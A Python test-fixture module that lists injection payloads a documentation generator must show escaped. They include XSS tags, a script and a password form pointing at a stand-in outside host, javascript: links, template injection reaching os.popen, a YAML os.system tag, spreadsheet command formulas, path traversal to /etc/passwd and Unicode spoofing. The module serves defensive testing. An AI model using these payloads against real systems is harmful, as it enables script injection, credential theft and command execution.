"""Texts that try to be more than text, by what they try. Each must be shown as it was typed, and do nothing.

In the one field that is Markdown a payload may legitimately read otherwise; what it becomes there is written down
beside it, as HTML. What is not written down becomes one paragraph of itself. The word `none` is no payload: an update
takes it for a word of its own.
"""

from dataclasses import dataclass
from html import escape
from typing import Literal

Kind = Literal["line", "text", "prose"]
LINE, TEXT = 300, 20_000  # the lengths that the fields hold
REL = 'rel="noopener noreferrer"'
Table = dict[str, str | tuple[str, str]]


@dataclass(frozen=True)
class Payload:
    """A text with a name; `html` is what Markdown makes of it, where that is not one paragraph of itself."""

    name: str
    text: str
    html: str | None = None

    def typed(self, kind: Kind) -> str:
        """Returns what is typed into a kind of field: as much as it holds, and no line end where there is one line."""
        return (
            " ".join(self.text.split())[:LINE] if kind == "line" else self.text[:TEXT]
        )

    def shown(self, kind: Kind) -> str:
        """Returns the HTML by which a kind of field must show it."""
        if kind == "prose":
            return (
                f"<p>{escape(self.text, quote=False)}</p>"
                if self.html is None
                else self.html
            )
        return escape(self.typed(kind))


SCRIPT: Table = {
    "a script": "<script>alert(1)</script>",
    "a script in odd letters": "<ScRiPt>alert(1)</sCrIpT >",
    "a script from elsewhere": "<script src=//elsewhere.example/x.js></script>",
    "a module": "<script type=module>import('//elsewhere.example/x.js')</script>",
    "a tag in a tag": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "a frame with a script": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "an object": "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "an embedded file": "<embed src=//elsewhere.example/x.swf>",
    "another base": "<base href=//elsewhere.example/>",
    "a way to elsewhere": "<meta http-equiv=refresh content='0;url=//elsewhere.example/'>",
    "a policy of its own": "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    "a stylesheet": "<link rel=stylesheet href=//elsewhere.example/x.css>",
    "a style": "<style>*{background:url(//elsewhere.example/x)}</style>",
    "a form": "<form action=//elsewhere.example/><input name=password><button>Log in</button></form>",
    "a picture": "<img src=//elsewhere.example/pixel.png>",
    "a template's element": "<template><script>alert(1)</script></template><slot name=x></slot>",
    "foreign content": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "all that follows": "<plaintext><textarea><title><noscript><xmp><select>",
}
HANDLER: Table = {
    "a picture that fails": "<img src=x onerror=alert(1)>",
    "a drawing that loads": "<svg/onload=alert(1)>",
    "out of double quotes": '" onmouseover="alert(1)',
    "out of single quotes": "' autofocus onfocus='alert(1)",
    "out of no quotes": "x onclick=alert(1) style=display:none",
    "out of a tag": '"><b onclick=alert(1)>x</b>',
    "out of backticks": ("`onclick=alert(1)`", "<p><code>onclick=alert(1)</code></p>"),
    "one that unfolds": "<details open ontoggle=alert(1)>",
    "an animation": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
}
SCHEME: Table = {
    "a script's address": "javascript:alert(1)",
    "one in odd letters": "JaVaScRiPt:alert(document.domain)//https://",
    "a page as data": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "an old script's": "vbscript:msgbox(1)",
    "a file of this machine": "file:///etc/passwd",
    "no scheme at all": "//elsewhere.example/x",
    "an address": "https://elsewhere.example/?a=1&b=2#c",
    "a letter to more": "mailto:a@b.example?bcc=c@d.example&body=x%0Ay",
    "the way up": "../../../etc/passwd",
}
TEMPLATE: Table = {
    "a sum": "{{7*7}}",
    "a sum with blanks": "{{ 7 * '7' }}",
    "a way to the system": (
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "<p>{{ cycler.<strong>init</strong>.<strong>globals</strong>.os.popen('id').read() }}</p>",
    ),
    "classes": (
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "<p>{{ ''.<strong>class</strong>.<strong>mro</strong>[1].<strong>subclasses</strong>() }}</p>",
    ),
    "the settings": "{{ config.items() | safe }}",
    "an include": '{% include "client.yml" %}',
    "an import": '{% import "hooks.py" as hooks %}{% raw %}',
    "a note": "{# a note #}",
    "Mustache": "{{{html}}} {{&html}} {{> partial}} {{#each x}}",
    "Liquid": "{% assign x = 7 %}{{ x | times: 7 }}",
    "other languages": (
        "${7*7} #{7*7} <%= 7*7 %> @(7*7) [[${7*7}]]",
        "<p>${7<em>7} #{7</em>7} &lt;%= 7<em>7 %&gt; @(7</em>7) [[${7*7}]]</p>",
    ),
    "a place to fill in": (
        "{} {0} {name} {count} {agency.__class__}",
        "<p>{} {0} {name} {count} {agency.<strong>class</strong>}</p>",
    ),
    "a place of another kind": "%s %(name)s %d $name %n",
}
MARKDOWN: Table = {
    "a link that runs": (
        "[click](javascript:alert(1))",
        "<p>[click](javascript:alert(1))</p>",
    ),
    "one spelt otherwise": (
        "[click](java&#115;cript:alert(1))",
        "<p>[click](javascript:alert(1))</p>",
    ),
    "a link to a page as data": "[click](data:text/html,x)",
    "a link": (
        '[report](https://elsewhere.example/?a=1&b=2 "a title")',
        f'<p><a href="https://elsewhere.example/?a=1&amp;b=2" title="a title" {REL}>report</a></p>',
    ),
    "a link out of its quotes": (
        '[report](https://elsewhere.example/"onclick="alert(1))',
        f'<p><a href="https://elsewhere.example/%22onclick=%22alert(1)" {REL}>report</a></p>',
    ),
    "a link to a neighbour": ("[up](../../../neighbour/)", f"<p><a {REL}>up</a></p>"),
    "a link without a scheme": (
        "[up](//elsewhere.example/)",
        f"<p><a {REL}>up</a></p>",
    ),
    "a link by another protocol": (
        "[up](ftp://elsewhere.example/)",
        f"<p><a {REL}>up</a></p>",
    ),
    "an address in brackets": (
        "<https://elsewhere.example/>",
        f'<p><a href="https://elsewhere.example/" {REL}>https://elsewhere.example/</a></p>',
    ),
    "a script in brackets": "<javascript:alert(1)>",
    "a picture": ("![pixel](https://elsewhere.example/pixel.png)", "<p>pixel</p>"),
    "a picture of a neighbour's": (
        "![pixel](../../../neighbour/documents/a.png)",
        "<p>pixel</p>",
    ),
    "a picture that runs": "![pixel](javascript:alert(1))",
    "a reference that runs": (
        "[click]\n\n[click]: javascript:alert(1)",
        "<p>[click]</p><p>[click]: javascript:alert(1)</p>",
    ),
    "a reference out of its quotes": (
        '[a]\n\n[a]: https://elsewhere.example/ "x\\" onclick=\\"alert(1)"',
        f'<p><a href="https://elsewhere.example/" title="x&quot; onclick=&quot;alert(1)" {REL}>a</a></p>',
    ),
    "a footnote": ("[^1]\n\n[^1]: note", f"<p><a {REL}>^1</a></p>"),
    "HTML": '<div onclick="alert(1)"><a href="javascript:alert(1)">x</a></div>',
    "HTML in a paragraph": "text <b style=position:fixed>bold</b> <!-- note -->",
    "attributes": 'text {: onclick="alert(1)" style="color: red" #top .pg-tabs }',
    "a heading with attributes": (
        "# Heading {#top onclick=alert(1)}",
        "<h3>Heading {#top onclick=alert(1)}</h3>",
    ),
    "code": (
        "```html\n<script>alert(1)</script>\n```",
        "<pre><code>&lt;script&gt;alert(1)&lt;/script&gt;\n</code></pre>",
    ),
    "code with attributes": (
        "``` {.x onclick=alert(1)}\n{{7*7}}\n```",
        "<pre><code>{{7*7}}\n</code></pre>",
    ),
    "code that does not end": (
        "```\n</code></pre><b>",
        "<pre><code>&lt;/code&gt;&lt;/pre&gt;&lt;b&gt;</code></pre>",
    ),
    "front matter": (
        "---\ntemplate: evil.html\n---\ntext",
        "<hr><h4>template: evil.html</h4><p>text</p>",
    ),
    "an admonition": '!!! danger "Title"\n    <script>alert(1)</script>',
    "a file to paste": '--8<-- "client.yml"',
    "another file to paste": ';--8<-- "../portal.yml" {! client.yml !} ::: portalgen.pipeline',
    "a table": (
        "| a |\n|:-:|\n| <b onclick=alert(1)>x</b> |",
        "<table><thead><tr><th>a</th></tr></thead>"
        "<tbody><tr><td>&lt;b onclick=alert(1)&gt;x&lt;/b&gt;</td></tr></tbody></table>",
    ),
    "words for extensions": (
        "[TOC] [[wiki]] :smile: {--cut--} ==x== *[HTML]: x $$x$$",
        "<p>[TOC] [[wiki]] :smile: {--cut--} ==x== *[HTML]: x $$x$$</p>",
    ),
    "places of a converter": (
        "wzxhzdk:0 klzzwxh:0001 &#2; {{placeholder}}",
        "<p>wzxhzdk:0 klzzwxh:0001 \ufffd {{placeholder}}</p>",
    ),
    "entities": (
        "&lt;script&gt; &#60;b&#62; &amp;lt; &NotAnEntity;",
        "<p>&lt;script&gt; &lt;b&gt; &amp;lt; &amp;NotAnEntity;</p>",
    ),
}
YAML: Table = {
    "a tag that runs": '!!python/object/apply:os.system ["id"]',
    "a tag that reads": "!ENV [HOME, !relative x]",
    "an anchor": "&a [*a, *a]",
    "an alias": "*a",
    "a merge": "<<: *a",
    "a key": "internal: {name: x}",
    "a question": "? x",
    "a list": ("- x", "<ul><li>x</li></ul>"),
    "a block": ("| x", "<p>| x</p>"),
    "a folded block": ("> x", "<blockquote><p>x</p></blockquote>"),
    "a directive": "%YAML 1.1",
    "a document": ("--- x", "<p>--- x</p>"),
    "an end": "...",
    "a comment": ("x # y", "<p>x # y</p>"),
    "an open bracket": "[x, {y: 'z",
    "quotes": '"x" \'y\' "\\x41\\u0042\\',
}
TABLE: Table = {
    "a formula": '=HYPERLINK("https://elsewhere.example/?"&A1,"x")',
    "a program": "=cmd|' /C calc'!A0",
    "a sum": "+1+1",
    "a difference": "-1+1",
    "a function": "@SUM(1,1)",
    "cells": 'x,y;z"",\t"x"',
}
UNICODE: Table = {
    "written backwards": "gpj.\u202eexe.x\u202c",
    "left open": "\u202e\u2067 x",
    "marks of direction": "\u200fx\u200e\u061c",
    "nothing to see": "x\u200by\u2060z\u00adw",
    "other letters": "\u0410cme p\u0430ypal.example",
    "wide letters": "\uff1cscript\uff1ealert\uff081\uff09\uff1c/script\uff1e",
    "letters that grow": "\ufb03 \u0130 \u1e9e \u2126 \ufdfa",
    "marks on marks": "Z\u0351\u036b\u0343a\u0334\u031b\u035el\u0489g\u0321\u034ao",
    "no letters": "\U0001f469\u200d\U0001f4bb \U0001f3f4\U000e0067\U000e007f",
}
BREAKOUT: Table = {
    "a comment's end": "--><script>alert(1)</script><!--",
    "a script's end": "</script></style></title></textarea></noscript>",
    "a section's end": "]]><![CDATA[<script>alert(1)</script>]]>",
    "a text's end in JSON": '"},{"x":"\\u003cscript\\u003e',
    "a text's end in a script": (
        "';alert(1);//\\';alert(1)//",
        "<p>';alert(1);//';alert(1)//</p>",
    ),
    "a rule's end": "} * { display: none } /* url(x) */",
    "a list's end": "</li></ul></div></article></main></body></html>",
    "a processing mark": "<?php echo 7*7 ?><?xml version='1.0'?><!DOCTYPE x>",
}
NOTHING: Table = {
    "null": "null",
    "a tilde": "~",
    "undefined": "undefined",
    "no number": "NaN",
    "true": "true",
    "NO": "NO",
    "zero": "0",
    "an object": "[object Object]",
    "brackets": "{} []",
    "a large number": "1e999",
    "a time": "12:30",
    "a day": "2026-13-01",
}
CHART: Table = {
    "a link": '<a href="javascript:alert(1)">x</a>',
    "letters in bold": "<b>x</b><br><i>y</i><sub>z</sub>",
    "a place to fill in": "%{x}%{y:.2f}<extra>%{customdata}</extra>",
    "a colour": "@accent",
    "a colour and more": "@accent;background:url(//elsewhere.example/)",
    "a formula": "$\\frac{1}{2}$",
    "half an entity": ("&lt;b&gt &amp", "<p>&lt;b&amp;gt &amp;amp</p>"),
}
LONG: Table = {
    "as long as it may be": "<i>&" + "long text " * (TEXT // 10 - 1) + "xx</i>",
    "a line without a blank": "x" * LINE,
}
TABLES = {
    "script": SCRIPT,
    "handler": HANDLER,
    "scheme": SCHEME,
    "template": TEMPLATE,
    "Markdown": MARKDOWN,
    "YAML": YAML,
    "table": TABLE,
    "Unicode": UNICODE,
    "break-out": BREAKOUT,
    "nothing": NOTHING,
    "chart": CHART,
    "length": LONG,
}


def _payloads(kind: str, table: Table) -> list[Payload]:
    pairs = {
        name: (typed, None) if isinstance(typed, str) else typed
        for name, typed in table.items()
    }
    return [Payload(f"{kind}: {name}", *pair) for name, pair in pairs.items()]


# In the order of their letters, so that what a page sorts by its text stands in the order of their numbers.
PAYLOADS = tuple(
    sorted(
        (each for kind, table in TABLES.items() for each in _payloads(kind, table)),
        key=lambda each: each.text,
    )
)


def _bundles() -> tuple[Payload, ...]:
    """Returns all payloads as texts of as many as fit one line."""
    found: list[Payload] = []
    for each in PAYLOADS:
        before, line = (found[-1].text if found else "x" * LINE), each.typed("line")
        if len(each.text) > LINE:
            found.insert(0, each)
        elif len(before) + 1 + len(line) > LINE:
            found.append(Payload(each.name, line))
        else:
            found[-1] = Payload(f"{found[-1].name}, {each.name}", f"{before} {line}")
    return tuple(found)


BUNDLES = _bundles()


@dataclass(frozen=True)
class Refused:
    """A text that no file may hold, with the code of the diagnostic; `elsewhere` where a file holds it unescaped.

    YAML knows escapes: there the code is for the escape. In Markdown and in tables the character itself stands.
    """

    name: str
    text: str
    escaped: str
    itself: str | None


CONTROL = (
    Refused("NUL", "x\0y", "PG103", "PG103"),
    Refused("a bell", "x\x07y", "PG103", "PG103"),
    Refused(
        "a terminal's escape", "\x1b[31mred\x1b[0m \x1b]0;title\x07", "PG103", "PG103"
    ),
    Refused("DEL", "x\x7fy", "PG103", "PG103"),
    Refused("a C1 control", "x\x9fy", "PG103", "PG103"),
    Refused("a converter's own mark", "\x02klzzwxh:0001\x03", "PG103", "PG103"),
    Refused("a mark of byte order", "x\ufeffy", "PG103", "PG103"),
    Refused("no character", "x\ufffey", "PG103", "PG103"),
    # As themselves they end no line here, and are read as the blank that they look like.
    Refused("a next line", "x\x85y", "PG103", None),
    Refused("a line separator", "x\u2028y\u2029z", "PG103", None),
)
